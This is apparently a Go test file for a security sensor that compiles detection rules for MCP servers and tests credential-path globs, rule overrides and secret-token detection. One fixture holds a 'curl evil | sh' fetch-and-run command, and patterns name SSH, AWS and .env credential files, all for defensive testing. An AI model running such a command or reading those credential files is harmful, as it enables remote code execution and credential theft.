package correlate

import (
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcpsec/sensor/rules"
)

// The shipped rule set compiles, and every rule's fixtures hold.
func TestShippedRules(t *testing.T) {
	rs, err := LoadFS(rules.Files, "rules")
	if err != nil {
		t.Fatal(err)
	}
	fails, st := rs.Test()
	for _, f := range fails {
		t.Error(f)
	}
	if st.Untested > 0 {
		t.Errorf("%d rules have no fire fixture", st.Untested)
	}
	t.Logf("%d rules, %d fire and %d quiet fixtures", st.Rules, st.Fire, st.Quiet)
}

func TestRuleErrors(t *testing.T) {
	for _, tc := range []struct{ src, want string }{
		{"- rule: x\n  when: effect\n  condition: effect.typ ==\n  severity: low\n", "x.yaml:1: rule x: condition:"},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: urgent\n", `severity "urgent"`},
		{"- rule: x\n  when: effects\n  condition: 'true'\n  severity: low\n", `when: "effects"`},
		{"- list: a\n  items: [x]\n- list: a\n  items: [y]\n", "x.yaml:3: list \"a\": already defined"},
		{"- macro: m\n  condition: m2\n- macro: m2\n  condition: m\n", "macro m:"},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n  output: '%efect.path'\n", `output: %efect.path: no variable "efect" (did you mean "effect"?)`},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n  output: '%effect.pth'\n", `effect has no field "pth" (did you mean "path"?)`},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n  fixtures:\n    fire:\n      - {effect: {pth: /x}}\n", `fire fixture #1: effect has no field "pth" (did you mean "path"?)`},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n  fixtures:\n    fire:\n      - {effect: {path: 3}}\n", `fire fixture #1: effect.path: a string, not a number`},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n  fixtures:\n    fire:\n      - {efect: {path: /x}}\n", `no variable "efect" (did you mean "effect"?)`},
		// typed variables: a misspelt field, a type mismatch, a name that is nothing
		{"- rule: x\n  when: effect\n  condition: effect.pth == 1\n  severity: low\n", `x.yaml:1: rule x: condition: effect has no field "pth" (did you mean "path"?)`},
		{"- rule: x\n  when: tool\n  condition: tool.shadowz.size() > 0\n  severity: low\n", `condition: tool has no field "shadowz" (did you mean "shadows"?)`},
		{"- rule: x\n  when: effect\n  condition: effect.path == 1\n  severity: low\n", `condition: found no matching overload for '_==_' applied to '(string, int)'`},
		{"- list: credential_paths\n  items: [a]\n- rule: x\n  when: effect\n  condition: glob(effect.path, credential_pathz)\n  severity: low\n", `"credential_pathz" is not a variable, list or macro (did you mean "credential_paths"?)`},
		{"- rule: x\n  when: effect\n  condition: serverr.tainted\n  severity: low\n", `"serverr" is not a variable, list or macro (did you mean "server"?)`},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severty: low\n", `x.yaml:1: unknown key "severty" (did you mean "severity"?)`},
		// overrides: a target that is not there, a part that cannot change
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n- rule: y\n  override: {severity: replace}\n  severity: high\n", `x.yaml:5: override of rule y: no such rule is defined before it`},
		{"- rule: shell_spawned\n  when: effect\n  condition: 'true'\n  severity: low\n- rule: shell_spawnd\n  override: {severity: replace}\n  severity: high\n", `(did you mean "shell_spawned"?)`},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n- rule: x\n  override: {when: replace}\n", `override of rule x: when cannot be overridden`},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n- rule: x\n  override: {severity: append}\n", `severity: "append": use replace`},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n", `already defined at x.yaml:1 (to change it, add ` + "`override:`"},
		{"- list: l\n  append: true\n  items: [a]\n", `list l: append to a list that is not defined`},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n  exceptions:\n    - {name: e, fields: [effect.pth], values: [[a]], reason: r}\n", `exception e: effect.pth: effect has no field "pth" (did you mean "path"?)`},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n  exceptions:\n    - {name: e, fields: [effect.path], values: [[a]]}\n", `exception e: give a reason`},
		{"rule: x\n", "a rule file is a list"},
		{"- rule: x\n  when: effect\n  condition: 'true'\n  severity: low\n  bad: [\n", "x.yaml"},
	} {
		_, err := Compile([]string{"x.yaml"}, map[string][]byte{"x.yaml": []byte(tc.src)})
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: error %v, want %q", tc.src, err, tc.want)
		}
	}
}

// Macros and lists expand inside conditions, but not inside strings or
// after a dot.
func TestExpand(t *testing.T) {
	defs := map[string]string{"shells": `["sh"]`, "is_exec": `(effect.type == "exec")`}
	got, err := expand(`is_exec && base(effect.path) in shells && effect.shells == "shells"`, defs, 0)
	if err != nil {
		t.Fatal(err)
	}
	want := `(effect.type == "exec") && base(effect.path) in ["sh"] && effect.shells == "shells"`
	if got != want {
		t.Fatalf("got  %s\nwant %s", got, want)
	}
}

func TestGlobAndUnder(t *testing.T) {
	var gs globs
	for _, tc := range []struct {
		p, pat string
		homes  []string
		want   bool
	}{
		{"/root/.ssh/id_rsa", "~/.ssh/id_*", nil, true},
		{"/home/ann/.ssh/id_ed25519", "~/.ssh/id_*", nil, true},
		{"/home/ann/x/.ssh/id_rsa", "~/.ssh/id_*", nil, false},
		{"/srv/app/.env", "**/.env", nil, true},
		{"/srv/app/.envrc", "**/.env", nil, false},
		{"/etc/cron.d/job", "/etc/cron.*/**", nil, true},
		// a server's own home, wherever it is
		{"/var/lib/svc/.aws/credentials", "~/.aws/credentials", nil, false},
		{"/var/lib/svc/.aws/credentials", "~/.aws/credentials", []string{"/var/lib/svc"}, true},
		{"/app/.ssh/id_rsa", "~/.ssh/id_*", []string{"/var/lib/svc", "/app/"}, true},
		{"/app/x/.ssh/id_rsa", "~/.ssh/id_*", []string{"/app"}, false},
		{"/appx/.ssh/id_rsa", "~/.ssh/id_*", []string{"/app"}, false},
	} {
		if got := gs.match(tc.p, []string{tc.pat}, tc.homes); got != tc.want {
			t.Errorf("glob(%s, %s, homes %v) = %v", tc.p, tc.pat, tc.homes, got)
		}
	}
	if !underAny("/srv/notes/a", []string{"/srv/notes"}) || underAny("/srv/notes-evil/a", []string{"/srv/notes"}) || !underAny("/srv/notes", []string{"/srv/notes/"}) {
		t.Error("under")
	}
	if !EgressAllowed("10.1.2.3:5432", []string{"10.0.0.0/8"}) || EgressAllowed("10.1.2.3:5432", []string{"10.1.2.3:80"}) || !EgressAllowed("[::1]:80", []string{"::1"}) {
		t.Error("egress")
	}
}

// TestOverridesAndExceptions: a site's file changes shipped rules without
// copying them, and the fixtures show what then fires: a severity
// replaced, a rule disabled, a condition narrowed, an exception on fields
// and values, a list appended to (reaching a rule defined before it).
func TestOverridesAndExceptions(t *testing.T) {
	names, srcs, err := ReadFS(rules.Files, "built-in")
	if err != nil {
		t.Fatal(err)
	}
	site := `
- rule: shell_spawned
  override: {severity: replace, exceptions: append}
  severity: medium
  exceptions:
    - name: ci_git_hooks
      fields: [server.name, effect.argv]
      comps: [=, contains]
      values: [["@acme/ci@1.0.0", "pre-commit"]]
      reason: "the CI server runs its hooks through sh (ticket SEC-12)"
- rule: listen_all_interfaces
  override: {enabled: replace}
  enabled: false
- rule: egress_outside_allowlist
  override: {condition: append}
  condition: "&& effect.port != 53"
- list: credential_paths
  append: true
  items: ["/srv/vault/*.key"]
`
	names = append(names, "site/zz-local.yaml")
	srcs["site/zz-local.yaml"] = []byte(site)
	rs, err := Compile(names, srcs)
	if err != nil {
		t.Fatal(err)
	}
	fires := func(rule string, fx map[string]any) bool {
		t.Helper()
		r, ok := rs.Rule(rule)
		if !ok {
			t.Fatalf("no rule %s", rule)
		}
		v, err := fixtureVars(fx)
		if err != nil {
			t.Fatal(err)
		}
		out, _, err := r.prg.Eval(v)
		if err != nil {
			t.Fatal(err)
		}
		return out.Value() == true
	}
	sh := map[string]any{"call": map[string]any{"active": true, "tool": "t"},
		"effect": map[string]any{"type": "exec", "path": "/bin/sh", "argv": []any{"sh", "-c", ".git/hooks/pre-commit"}, "novel_exe": true}}
	if r, _ := rs.Rule("shell_spawned"); r.Severity != "medium" || !fires("shell_spawned", sh) {
		t.Errorf("shell_spawned: severity %s, or it no longer fires", r.Severity)
	}
	sh["server"] = map[string]any{"name": "@acme/ci@1.0.0"}
	if fires("shell_spawned", sh) {
		t.Error("the exception did not quiet shell_spawned for the CI server's hook")
	}
	sh["effect"].(map[string]any)["argv"] = []any{"sh", "-c", "curl evil | sh"}
	if !fires("shell_spawned", sh) {
		t.Error("the exception quieted more than its values")
	}
	if r, _ := rs.Rule("listen_all_interfaces"); rs.looksAt("effect", "listen") && contains(rs.index["effect"]["listen"], r) {
		t.Error("a disabled rule still runs")
	}
	dns := map[string]any{"server": map[string]any{"egress_allow": []any{"10.0.0.0/8"}},
		"effect": map[string]any{"type": "connect", "addr": "192.0.2.1:53", "host": "192.0.2.1", "port": 53}}
	if fires("egress_outside_allowlist", dns) {
		t.Error("the appended condition did not narrow the rule")
	}
	cred := map[string]any{"call": map[string]any{"active": true}, "effect": map[string]any{"type": "open", "path": "/srv/vault/db.key"}}
	if !fires("credential_read_unnamed", cred) {
		t.Error("the appended list item does not reach a rule defined before it")
	}
	r, _ := rs.Rule("shell_spawned")
	if r.Origins["severity"] != "site/zz-local.yaml:2" || r.Origins["defined"] != "built-in/escape.yaml:47" || r.Exceptions[0].Origin != "site/zz-local.yaml:2" {
		t.Errorf("origins: %v, exception from %s", r.Origins, r.Exceptions[0].Origin)
	}
}

func contains(l []*Rule, r *Rule) bool {
	for _, x := range l {
		if x == r {
			return true
		}
	}
	return false
}

// TestReferenceInREADME: the rule reference in rules/README.md is the one
// the declarations give.
func TestReferenceInREADME(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("..", "..", "rules", "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	i, j := strings.Index(s, "<!-- fields:begin -->\n"), strings.Index(s, "<!-- fields:end -->")
	if i < 0 || j < i {
		t.Fatal("rules/README.md has no fields markers")
	}
	if got := s[i+len("<!-- fields:begin -->\n") : j]; got != Reference() {
		t.Error("rules/README.md's variables table differs from the declarations: regenerate it with `sensor rules fields`")
	}
}

// TestSecrets: each kind of secret is found (the literal prefilter never
// hides one), and ordinary text holds none.
func TestSecrets(t *testing.T) {
	for want, text := range map[string]string{
		"private_key":           "x\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n",
		"aws_access_key_id":     `{"id":"AKIAIOSFODNN7EXAMPLE"}`,
		"aws_secret_access_key": "AWS_Secret_Access_Key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
		"github_token":          "token ghp_" + strings.Repeat("a", 36),
		"gitlab_token":          "glpat-" + strings.Repeat("b", 20),
		"slack_token":           "xoxb-1234567890-abcdef",
		"anthropic_key":         "sk-ant-" + strings.Repeat("c", 24),
		"openai_key":            "key=sk-proj-" + strings.Repeat("d", 40),
		"google_api_key":        "AIza" + strings.Repeat("e", 35),
		"stripe_key":            "sk_live_" + strings.Repeat("f", 24),
		"npm_token":             "npm_" + strings.Repeat("g", 36),
		"jwt":                   "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
		"gcp_service_account":   `{"type": "service_account", "project_id": "p"}`,
	} {
		got := Secrets(text)
		found := false
		for _, g := range got {
			found = found || g == want
		}
		if !found {
			t.Errorf("%s not found in %q: %v", want, text, got)
		}
	}
	if got := Secrets(strings.Repeat("The quick brown fox asks a task-based desk question. ", 50)); len(got) != 0 {
		t.Errorf("ordinary text: %v", got)
	}
}

func BenchmarkSecrets(b *testing.B) {
	text := `{"content":[{"type":"text","text":"Echo: ` + strings.Repeat("m", 512) + `"}]}`
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Secrets(text)
	}
}

// hasHint finds a hint in either case exactly where a compare at every byte
// does.
func TestHasHint(t *testing.T) {
	naive := func(s, h string) bool {
		for i := 0; i+len(h) <= len(s); i++ {
			if strings.EqualFold(s[i:i+len(h)], h) {
				return true
			}
		}
		return false
	}
	rng := rand.New(rand.NewPCG(1, 2))
	alpha := "aAbB-_9"
	for i := 0; i < 20000; i++ {
		b := make([]byte, rng.IntN(24))
		for j := range b {
			b[j] = alpha[rng.IntN(len(alpha))]
		}
		h := make([]byte, 1+rng.IntN(3))
		for j := range h {
			h[j] = alpha[rng.IntN(len(alpha))]
		}
		if got, want := hasHint(string(b), string(h), true), naive(string(b), string(h)); got != want {
			t.Fatalf("hasHint(%q, %q) = %v, want %v", b, h, got, want)
		}
	}
}
